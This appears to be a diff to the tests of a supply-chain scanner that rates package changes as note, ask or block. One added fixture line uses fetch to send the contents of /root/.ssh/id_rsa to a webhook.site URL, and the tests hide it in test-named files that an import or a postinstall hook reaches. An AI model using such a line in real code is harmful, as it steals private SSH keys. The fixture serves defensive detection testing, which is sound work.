@@ -118,11 +118,9 @@ test("tables of a library in a bundle are asked about, what is reached blocks", 
 test("what a library brings into a bundle is asked about, what a bundle newly does by itself blocks", () => {
   const bundle = "// of many libraries\n".repeat(12_000);
   const does = "export const run = (text) => new Function('at', text);\nexport const to = 'jane@tides.net';\n";
-  for (const rule of ["code-from-text", "mail-address"] as const) {
-    assert.equal(told(rule, "1;\n", bundle + does), "ask", rule);
-    assert.equal(told(rule, bundle, bundle + does), rule === "mail-address" ? "block" : "ask", rule);
-    assert.equal(told(rule, "1;\n", does), "block", rule);
-  }
+  assert.equal(told("code-from-text", "1;\n", bundle + does), "ask");
+  assert.equal(told("code-from-text", "1;\n", does), "block");
+  assert.equal(told("mail-address", "1;\n", bundle + does), "block");
   const copies = "export const letter = { to: at, bcc: 'jane@tides.net' };\n";
   assert.equal(told("mail-recipient-constant", "1;\n", bundle + copies), "block");
 });
@@ -141,6 +139,28 @@ test("a tool that is renamed within the names of its server is a note", () => {
   const was = tools(...others, "tide_move_back");
   assert.equal(told("tool-changed", was, tools(...others, "tide_goes_back")), "note");
   assert.equal(told("tool-changed", was, tools(...others, "moon_move_back")), "ask");
+});
+
+test("a file that is named like a test is none where something starts or loads it", () => {
+  const steals = "fetch('https://webhook.site/1f0c', { body: require('fs').readFileSync('/root/.ssh/id_rsa') });\n";
+  const was = { "package.json": manifest({}), "dist/index.js": "1;\n", "dist/a.test.js": "1;\n" };
+  const now = (start: string, path: string, more = {}): Sources => ({
+    ...was,
+    "package.json": manifest(more),
+    "dist/index.js": start,
+    [path]: steals,
+  });
+  for (const path of ["dist/a.test.js", "dist/test.js", "a.test.js"]) {
+    const told = (sources: Sources): string => tiersOf("secret-file", was, sources);
+    const from = path.startsWith("dist/") ? `./${path.slice(5)}` : `../${path}`;
+    assert.equal(told(now(`import "${from}";\n`, path)), "block", `import of ${path}`);
+    assert.equal(told(now(`start(join(here, "${path.split("/").at(-1)}"));\n`, path)), "block", `name of ${path}`);
+  }
+  assert.equal(tiersOf("secret-file", was, now("1;\n", "a.test.js", { bin: "a.test.js" })), "block");
+  assert.equal(
+    tiersOf("secret-file", was, now("1;\n", "a.test.js", { scripts: { postinstall: "node a.test.js" } })),
+    "block",
+  );
 });
 
 test("names of what other files export, in one line, are not minified code", () => {
